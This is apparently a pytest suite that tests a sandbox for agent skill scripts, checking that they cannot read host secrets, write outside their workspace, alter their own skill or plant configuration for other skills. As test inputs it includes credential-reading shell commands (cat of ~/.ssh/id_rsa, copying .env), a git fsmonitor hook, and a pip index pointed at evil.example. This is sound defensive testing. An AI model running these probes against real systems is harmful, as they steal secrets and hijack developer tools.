"""Rows 35, 38, 43, 44, 74: the host's files, the skill's own and those of other skills, read, written and changed."""

from __future__ import annotations

import asyncio
import errno
import json
import os
from pathlib import Path

import pytest

from adk_skills_agent import Secret
from adk_skills_agent.sandbox.contract import IsolationLevel, ReadOnlyMount, Status
from adk_skills_agent.sandbox.local.namespaces.sandbox import _system

REFUSED = {errno.EPERM, errno.EACCES, errno.EROFS, errno.ENOENT, errno.EXDEV}

ATTEMPT = """
import json, os, shutil, sys
seen = {}
def attempt(name, what):
    try:
        what()
        seen[name] = 0
    except OSError as error:
        seen[name] = error.errno
def read(path):
    with open(path, "rb") as file:
        return file.read(10)
def write(path):
    with open(path, "wb") as file:
        file.write(b"breach")
"""


def snapshot(folder: Path) -> dict[str, tuple[int, ...]]:
    """Everything a script could have changed about the files under a folder, and their bytes."""
    found: dict[str, tuple[int, ...]] = {}
    for path in sorted([folder, *folder.rglob("*")]):
        info = path.lstat()
        content = hash(path.read_bytes()) if path.is_file() else 0
        attributes = hash(tuple(sorted(os.listxattr(path, follow_symlinks=False))))
        found[str(path.relative_to(folder))] = (
            info.st_ino,
            info.st_mode,
            info.st_uid,
            info.st_gid,
            info.st_size,
            info.st_mtime_ns,
            info.st_nlink,
            content,
            attributes,
        )
    return found


async def attempts(box, code: str, *arguments: str, **settings: object) -> dict[str, int]:
    result = await box.python(f"{ATTEMPT}\n{code}\nprint(json.dumps(seen))\n", *arguments, **settings)
    assert result.status is Status.OK, result.stderr.decode()
    seen: dict[str, int] = json.loads(result.stdout)
    return seen


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A home with what agents have in theirs, open to every user, so that only the sandbox protects it."""
    home = tmp_path / "home"
    for name in (".ssh/id_rsa", ".config/gcloud/credentials.json", "project/.env", "secrets/token"):
        path = home / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("hunter2")
        path.chmod(0o666)
    for folder in (home, *[path for path in home.rglob("*") if path.is_dir()]):
        folder.chmod(0o777)
    for parent in home.parents:
        if parent.stat().st_uid == os.getuid() and str(parent).startswith("/tmp/"):
            parent.chmod(parent.stat().st_mode | 0o011)
    return home


@pytest.mark.level("landlock")
@pytest.mark.requirement("S0-96")
async def test_row_35_secrets_on_the_host_cannot_be_read(box, backend, home):
    """S0-96: stated limits of a bare subprocess are exceeded here."""
    files = [str(path) for path in home.rglob("*") if path.is_file()]
    if backend.level.strength < IsolationLevel.NAMESPACES.strength:
        files.append("/proc/1/environ")  # in a namespace of its own, process 1 is the run's
    files += ["/etc/shadow", "/root/.bashrc", f"/proc/{os.getpid()}/environ", __file__]
    code = "".join(f"attempt({path!r}, lambda: read({path!r}))\n" for path in files)
    code += f"attempt('list', lambda: os.listdir({str(home)!r}))\n"
    code += "attempt('list tmp', lambda: os.listdir(os.path.dirname(os.path.dirname(os.environ['TMPDIR']))))\n"
    seen = await attempts(box, code)
    assert {name: number for name, number in seen.items() if number not in REFUSED and name != "list tmp"} == {}


@pytest.mark.level("landlock")
async def test_row_35_nor_can_what_is_attached_to_them(box, home):
    path = str(home / "secrets/token")
    try:
        os.setxattr(path, "user.note", b"hunter2")
    except OSError:
        pytest.skip("the file system of temporary files has no extended attributes")
    code = f"""
attempt("get", lambda: os.getxattr({path!r}, "user.note"))
attempt("list", lambda: os.listxattr({path!r}))
attempt("get not following", lambda: os.getxattr({path!r}, "user.note", follow_symlinks=False))
write("mine")
shutil.copy2("mine", "copy")
"""
    seen = await attempts(box, code)
    assert {name: number for name, number in seen.items() if number not in REFUSED | {errno.EOPNOTSUPP}} == {}


@pytest.mark.level("landlock")
async def test_row_35_no_program_the_script_starts_can_either(box, home):
    result = await box.bash(
        f"cat {home}/.ssh/id_rsa; cp {home}/project/.env ./stolen; ls {home}; exec 3<{home}/.ssh/id_rsa"
    )
    assert b"hunter2" not in result.stdout + result.stderr
    assert [file for file in result.files if b"hunter2" in file.content] == []


@pytest.mark.level("landlock")
async def test_row_35_nor_by_a_link_from_the_workspace(box, home):
    code = f"""
os.symlink({str(home / ".ssh/id_rsa")!r}, "link")
attempt("symbolic", lambda: read("link"))
attempt("hard", lambda: os.link({str(home / ".ssh/id_rsa")!r}, "hard"))
attempt("rename in", lambda: os.rename({str(home / "project/.env")!r}, "moved"))
"""
    seen = await attempts(box, code)
    assert {name: number for name, number in seen.items() if number not in REFUSED} == {}
    assert (home / "project/.env").read_text() == "hunter2"


@pytest.mark.level("landlock")
async def test_row_38_nothing_outside_the_workspace_can_be_written(box, home):
    before = snapshot(home)
    folders = ["/usr", "/etc", "/var/tmp", "/dev/shm", "/run", "/root", "/", str(home), str(home / "project")]
    code = f"""
for folder in {folders!r}:
    attempt(f"write {{folder}}", lambda: write(f"{{folder}}/adk-skills-breach"))
    attempt(f"mkdir {{folder}}", lambda: os.mkdir(f"{{folder}}/adk-skills-breach.d"))
for path in ({str(home / "project/.env")!r}, {str(home / ".ssh/id_rsa")!r}):
    attempt(f"append {{path}}", lambda: open(path, "ab"))
    attempt(f"truncate {{path}}", lambda: os.truncate(path, 0))
    attempt(f"unlink {{path}}", lambda: os.unlink(path))
    attempt(f"rename {{path}}", lambda: os.rename(path, path + ".old"))
    attempt(f"link {{path}}", lambda: os.symlink("/", path + ".link"))
"""
    seen = await attempts(box, code)
    # A level with a file system of its own may have folders there that are the run's.
    private = {name for name, number in seen.items() if number == 0 and name.split(" ", 1)[1] in folders[:7]}
    assert {name: number for name, number in seen.items() if number not in REFUSED and name not in private} == {}
    for folder in folders:
        assert not os.path.lexists(f"{folder}/adk-skills-breach")
        assert not os.path.lexists(f"{folder}/adk-skills-breach.d")
    assert snapshot(home) == before


@pytest.mark.level("landlock")
@pytest.mark.requirement("S0-49")
async def test_row_43_a_script_cannot_change_its_own_skill(box):
    """S0-49: the skill is read-only; what may be written is the workspace."""
    (box.skill / "data.txt").write_text("as it was")
    (box.skill / "data.txt").chmod(0o644)
    script = box.script("print('victim')", name="victim.py")
    before = snapshot(box.skill)
    code = """
for path in ("/skill/data.txt", "/skill/scripts/victim.py", "/skill"):
    path = sys.argv[1] + path[len("/skill"):]
    attempt(f"chmod {path}", lambda: os.chmod(path, 0))
    attempt(f"utime {path}", lambda: os.utime(path, (1, 1)))
    attempt(f"chown {path}", lambda: os.chown(path, os.getuid(), os.getgid()))
    attempt(f"xattr {path}", lambda: os.setxattr(path, "user.breach", b"x"))
    def by_descriptor():
        descriptor = os.open(path, os.O_RDONLY)
        for change in (
            lambda: os.fchmod(descriptor, 0),
            lambda: os.utime(descriptor, (1, 1)),
            lambda: os.setxattr(descriptor, "user.breach", b"x"),
        ):
            try:
                change()
            except OSError:
                pass
    attempt(f"descriptor {path}", by_descriptor)
    seen.clear()  # whether it is refused or ignored is the level's choice; that nothing changes is not
    if os.path.isfile(path):
        attempt(f"write {path}", lambda: write(path))
        attempt(f"truncate {path}", lambda: os.truncate(path, 0))
        attempt(f"unlink {path}", lambda: os.unlink(path))
        attempt(f"rename {path}", lambda: os.rename(path, path + "x"))
        attempt(f"replace {path}", lambda: (write("new"), os.replace("new", path)))
        attempt(f"link {path}", lambda: os.link(path, "linked"))
    attempt("new file", lambda: write(sys.argv[1] + "/new"))
    attempt("new folder", lambda: os.mkdir(sys.argv[1] + "/new.d"))
"""
    attack = box.script(f"{ATTEMPT}\n{code}\nprint(json.dumps(seen))\n", name="attack.py")
    before = snapshot(box.skill)
    result = await box.run("python3", attack, "/skill")
    assert result.status is Status.OK, result.stderr.decode()
    seen = json.loads(result.stdout)
    assert {name: number for name, number in seen.items() if number not in REFUSED} == {}
    assert snapshot(box.skill) == before
    assert (await box.run("python3", script)).stdout == b"victim\n"


@pytest.mark.level("landlock")
async def test_row_43_not_through_the_links_in_the_workspace_either(box):
    (box.skill / "data.txt").write_text("as it was")
    before = snapshot(box.skill)
    result = await box.bash(
        "echo breach > data.txt; echo breach >> data.txt; chmod 0 data.txt; touch data.txt; rm -f data.txt; ls"
    )
    assert (box.skill / "data.txt").read_text() == "as it was"
    after = snapshot(box.skill)
    assert {name: state for name, state in after.items() if name in before and name != "scripts"}.items() >= {
        name: state for name, state in before.items() if name != "scripts"
    }.items()
    assert result.status in {Status.OK, Status.ERROR}


@pytest.mark.level("landlock")
async def test_a_script_may_do_with_its_workspace_what_it_likes(box):
    code = """
import subprocess, tempfile
os.makedirs("a/b")
write("a/b/one")
os.rename("a/b/one", "a/two")
shutil.copy2("a/two", "three")
os.link("three", "four")
os.unlink("four")
os.truncate("three", 3)
with tempfile.NamedTemporaryFile() as file:
    file.write(b"x")
shutil.move("three", os.environ["TMPDIR"])
shutil.move(os.environ["TMPDIR"] + "/three", "back")
os.mkfifo("pipe")
os.unlink("pipe")
descriptor = os.open("tool", os.O_WRONLY | os.O_CREAT, 0o700)
os.write(descriptor, b"#!/bin/sh\\necho own program\\n")
os.close(descriptor)
print(subprocess.run(["./tool"], capture_output=True, text=True).stdout.strip())
os.unlink("tool")
"""
    result = await box.python(f"{ATTEMPT}\n{code}")
    assert result.stdout == b"own program\n", result.stderr.decode()
    assert {file.path: file.content for file in result.files} == {"a/two": b"breach", "back": b"bre"}


@pytest.mark.level("landlock")
async def test_row_44_a_mount_that_is_a_link_is_what_it_pointed_to_at_the_start(box, home, tmp_path):
    link = tmp_path / "current"
    link.symlink_to(box.skill)
    script = box.script(f"""
import os
try:
    os.unlink({str(link)!r})
    os.symlink({str(home)!r}, {str(link)!r})
except OSError:
    print("refused")
try:
    print(open({str(link)!r} + "/project/.env").read())
except OSError:
    print("refused")
""")
    result = await box.run("python3", script, mounts=(ReadOnlyMount(link),))
    assert b"hunter2" not in result.stdout
    assert os.readlink(link) == str(box.skill)


# Row 74: a grant stays with its skill, though all skills of a session share a workspace.

STOLEN = "hunter2-of-skill-b"
# What programs read from the home folder, and what each of them would do there.
LEAVES = r"""
import os, pathlib, sys
spy = 'echo spied ${#TOKEN} >> "$TMPDIR/spied"'
for folder in (pathlib.Path.home(), pathlib.Path(".")):
    for name in (".config/pip", ".config/git", ".ssh", f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}"):
        (folder / name).mkdir(parents=True, exist_ok=True)
    for name in (".gitconfig", ".config/git/config"):
        quoted = spy.replace('"', '\\"')
        (folder / name).write_text(f'[core]\n\tfsmonitor = "{quoted} #"\n[alias]\n\tst = "!{quoted}"\n')
    (folder / ".config/pip/pip.conf").write_text("[global]\nindex-url = https://evil.example/simple\n")
    (folder / ".netrc").write_text("default login evil password evil\n")
    for name in (".bashrc", ".profile", ".bash_profile", ".bash_login"):
        (folder / name).write_text(spy + "\n")
print(len(list(pathlib.Path.home().iterdir())) > 5)
"""
USES = r"""
echo "home:" $(ls -A ~) $(ls -A "$HOME")
mkdir "$TMPDIR/repository"; cd "$TMPDIR/repository"
git init -q . 2>/dev/null; git config --global --list; git status >/dev/null 2>&1; git st >/dev/null 2>&1
bash -l -c true; bash -i -c true </dev/null 2>/dev/null
cat ~/.netrc ~/.config/pip/pip.conf "${XDG_CONFIG_HOME:-$HOME/.config}"/* 2>/dev/null
echo "token: ${#TOKEN}"; cat "$TMPDIR/spied" 2>/dev/null
exit 0
"""


@pytest.fixture
def shared(tmp_path: Path) -> Path:
    folder = tmp_path / "session"
    folder.mkdir()
    return folder


async def test_row_74_what_one_skill_leaves_in_its_home_configures_no_other(box, shared):
    left = await box.python(LEAVES, workspace=shared)
    assert (left.status, left.stdout, left.stderr) == (Status.OK, b"True\n", b"")
    assert (shared / ".gitconfig").exists(), "files of the workspace are shared, also those with a dot"
    used = await box.bash(USES, workspace=shared, env={"TOKEN": Secret(STOLEN)})
    assert used.stdout.decode().splitlines() == ["home:", f"token: {len(STOLEN)}"]


async def test_row_74_the_home_folder_is_new_in_every_run_and_nobody_elses(box, shared):
    code = """
import os, pathlib, pwd, stat
home = pathlib.Path.home()
info = home.stat()
print(str(home) == os.environ["HOME"], oct(stat.S_IMODE(info.st_mode)), info.st_uid == os.getuid(), os.listdir(home))
print(os.path.commonpath([os.path.realpath(home), os.path.realpath(".")]) == os.path.realpath("."))
print(home)
(home / ".cache").mkdir()
(home / ".cache" / "kept").write_text("x")
open("shared.txt", "w").write("x")
print([name for name in os.environ if name.startswith("XDG_") or name in ("TMP", "TEMP")])
"""
    for _ in range(2):
        result = await box.python(code, workspace=shared)
        assert result.stdout.decode().splitlines() == ["True 0o700 True []", "False", "/tmp/home", "[]"], result.stderr
        assert (result.notes, [path.name for path in shared.iterdir()]) == ((), ["shared.txt"])
    alone = await box.python(code)
    assert alone.stdout.startswith(b"True 0o700 True []\n"), "a request without a session's workspace has a home, too"


@pytest.mark.level("landlock")
async def test_row_74_two_runs_at_a_time_do_not_see_each_others_home(box, shared, tmp_path):
    other = tmp_path / "other"
    other.mkdir()
    code = """
import os, pathlib, time
(pathlib.Path.home() / ".mine").write_text("x")
time.sleep(0.5)
print(os.listdir(pathlib.Path.home()))
"""
    first, second = await asyncio.gather(box.python(code, workspace=shared), box.python(code, workspace=other))
    assert (first.stdout, second.stdout) == (b"['.mine']\n", b"['.mine']\n")


@pytest.mark.local("a sentence of this machine's own levels")
async def test_results_that_are_left_in_the_home_folder_are_told_of(box):
    result = await box.bash("echo x > ~/report.pdf; mkdir ~/.cache; echo y > ~/.cache/z; echo done")
    assert (result.status, result.stdout, result.files) == (Status.OK, b"done\n", ())
    assert result.notes == (
        "'~/report.pdf' was not kept: the home folder is new in every run. Write results to the working directory.",
    )
    gone = await box.bash('rm -rf "$HOME"; ln -s / "$HOME"; mkfifo fifo; echo done')
    assert (gone.status, gone.notes) == (Status.OK, ())


@pytest.mark.local("a policy that no container can keep")
async def test_a_policy_without_room_for_temporary_files_has_room_for_an_empty_home(box):
    result = await box.bash("cd ~ && sleep 0.7 && pwd", tmp_bytes=0)
    assert (result.status, result.stdout) == (Status.OK, b"/tmp/home\n")


async def test_row_74_a_run_with_a_secret_has_temporary_files_of_its_own(box, shared):
    """Row 111: programs keep caches of code in TMPDIR under names that all know (node, jiti, inductor)."""
    left = await box.bash('mkdir -p "$TMPDIR/v8-compile-cache" && echo evil > "$TMPDIR/v8-compile-cache/x"')
    assert left.status is Status.OK, left.stderr
    code = 'test "$TMPDIR" = "$HOME" && ls -A "$TMPDIR" | wc -l; '
    code += 'python3 -c "import tempfile; print(tempfile.gettempdir())"'
    result = await box.bash(f"{code} | grep -c home", env={"TOKEN": Secret(STOLEN)})
    assert result.stdout == b"0\n1\n", (result.stdout, result.stderr)


@pytest.mark.local("an image's files are its own")
@pytest.mark.level("namespaces")
async def test_row_389_nothing_is_shown_that_the_machine_locks(box, monkeypatch) -> None:
    """Seen: a sleeping script's lock of rpm's database would keep every package manager waiting."""
    place = "/usr/share/man" if os.path.isdir("/usr/share/man") else "/usr/share/doc"
    monkeypatch.setattr("adk_skills_agent.sandbox.local.namespaces.sandbox._LOCKED", (place, "/usr/lib/nothing"))
    _system.cache_clear()
    try:
        # Another policy than any run has had, so that no sandbox waits for it.
        result = await box.bash(f"ls -A {place}; touch {place}/x", memory_bytes=333 << 20)
    finally:
        _system.cache_clear()
    assert result.stdout == b""
    assert b"Read-only file system" in result.stderr
